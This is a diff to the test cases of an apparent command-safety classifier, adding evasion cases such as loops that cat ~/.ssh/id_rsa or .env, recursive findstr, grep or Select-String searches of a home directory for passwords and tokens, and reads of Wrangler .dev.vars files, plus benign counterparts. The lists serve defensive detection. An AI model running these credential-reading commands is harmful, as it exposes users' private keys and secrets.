@@ -1180,6 +1180,17 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["kubectl --profile heap get pods", "review"],
   ["kubectl get pods --kuberc=prefs.yaml", "review"],
   ["KUBERC=./prefs.yaml kubectl get pods", "review"],
+  // review56: --cache-dir (any spelling) and KUBECACHEDIR move kubectl's discovery and HTTP
+  // caches, which it writes, out of ~/.kube/cache; GOWORK names a go.work file elsewhere, whose
+  // toolchain line makes go download and run that toolchain (GOWORK=off reads none).
+  ["kubectl --cache-dir /tmp/k get pods", "review"],
+  ["kubectl get pods --cache_dir=/tmp/k", "review"],
+  ["KUBECACHEDIR=/tmp/k kubectl get pods", "review"],
+  ["GOWORK=/tmp/w/go.work go list ./...", "review"],
+  ["env GOWORK=../other/go.work go list ./...", "review"],
+  // review56: findstr /s over a home for other text reads every file there, as grep -r hello ~.
+  ["findstr /s TODO C:\\Users\\me\\*", "review"],
+  ["Get-ChildItem ~ | Select-String TODO", "review"],
   // review53: gh api uses an endpoint with `://` as the whole URL, on any host (and sends
   // GH_ENTERPRISE_TOKEN to a host that is not github.com), as -R HOST/OWNER/REPO does.
   ["gh api https://collector.example.test/x", "review"],
@@ -1216,6 +1227,31 @@ export const EVASION_CASES: readonly CommandCase[] = [
   // review53: a for loop over one plain word gives its variable that word, as NAME=WORD does.
   ['for f in ~/.ssh/id_rsa; do cat "$f"; done', "dangerous", "credential_exposure"],
   ["for f in .env; do head -n 5 $f; done", "dangerous", "credential_exposure"],
+  // A loop over several words runs its body with each: a credential file among them is read.
+  ["for f in a ~/.ssh/id_rsa; do cat $f; done", "dangerous", "credential_exposure"],
+  ['for d in src ~/.aws; do grep -r key "$d"; done', "dangerous", "credential_exposure"],
+  ["for f in README.md .env; do cat $f; done", "dangerous", "credential_exposure"],
+  // review56: grep reads an option's value from the next word (-d recurse, -m 1), so that word is
+  // not its pattern; with no path named, the recursive search walks a credential directory cd named.
+  ["cd ~/.ssh && grep -d recurse BEGIN", "dangerous", "credential_exposure"],
+  ["cd ~/.aws && grep --directories recurse key", "dangerous", "credential_exposure"],
+  ["cd ~/.ssh && grep -r -m 1 BEGIN", "dangerous", "credential_exposure"],
+  // review56: findstr /s (also run together, /spin, or as -s) searches a directory and every one
+  // below it, as grep -r does: of a home or drive root, for secrets, credential exposure.
+  ["findstr /s /i password C:\\Users\\me\\*", "dangerous", "credential_exposure"],
+  ["findstr -s -i token %USERPROFILE%\\*", "dangerous", "credential_exposure"],
+  ["cd ~ && findstr /si /c:token *.txt", "dangerous", "credential_exposure"],
+  ["findstr /s /d:%USERPROFILE% token *", "dangerous", "credential_exposure"],
+  ["findstr /s /g:pats.txt C:\\*", "dangerous", "credential_exposure"],
+  // A drive path after a colon (an option's value, /d:C:\...) is read with backslashes as separators.
+  ["findstr /s /d:C:\\Users\\me token *", "dangerous", "credential_exposure"],
+  // review56: without -Recurse, the files at the top of a home are piped to Select-String; on
+  // Windows a leading dot hides nothing, so ~\.git-credentials and ~\_netrc are among them.
+  ["Get-ChildItem ~ | Select-String password", "dangerous", "credential_exposure"],
+  ["gci $HOME | sls token", "dangerous", "credential_exposure"],
+  // review56: Cloudflare Wrangler's local secrets file (dotenv lines; per environment too).
+  ["cat .dev.vars", "dangerous", "credential_exposure"],
+  ["grep KEY worker/.dev.vars.staging", "dangerous", "credential_exposure"],
   // review53: GIT_TEST_FSMONITOR is read as core.fsmonitor, a hook git status and diff run with
   // sh -c (git 2.39, tested with a marker file); Git for Windows' GIT_REDIRECT_STDOUT/STDERR
   // write git's output to the file they name.
@@ -1738,6 +1774,20 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ['for f in README.md; do cat "$f"; done', "read_only"],
   ['for f in ~/.ssh/id_rsa; do ls -la "$f"; done', "read_only"],
   ['for f in a.txt b.txt; do cat "$f"; done', "read_only"],
+  ["for f in README.md .env.example; do cat $f; done", "read_only"],
+  ["GOWORK=off go list ./...", "read_only"],
+  ["cd ~/.ssh && grep -d skip BEGIN", "read_only"],
+  ["cd src && grep -d recurse -m 1 BEGIN", "read_only"],
+  ["findstr /s TODO src\\*.ts", "read_only"],
+  ["findstr /i token C:\\Users\\me\\*", "read_only"],
+  ["findstr /s password *.ts", "read_only"],
+  ["findstr /s /d:src token *.txt", "read_only"],
+  ["Get-ChildItem src | Select-String password", "read_only"],
+  ["Get-ChildItem ~", "read_only"],
+  ["cat .dev.vars.example", "read_only"],
+  ["ls -la .dev.vars", "read_only"],
+  ["kubectl get pods --chunk-size=50", "read_only"],
+  ['for f in a ~/.ssh/id_rsa; do ls -la "$f"; done', "read_only"],
   ["GIT_OPTIONAL_LOCKS=0 git status", "read_only"],
   ["BAT_THEME=ansi bat README.md", "read_only"],
   // Listing a credential directory alone, another directory's files read, and bash's ls | cat
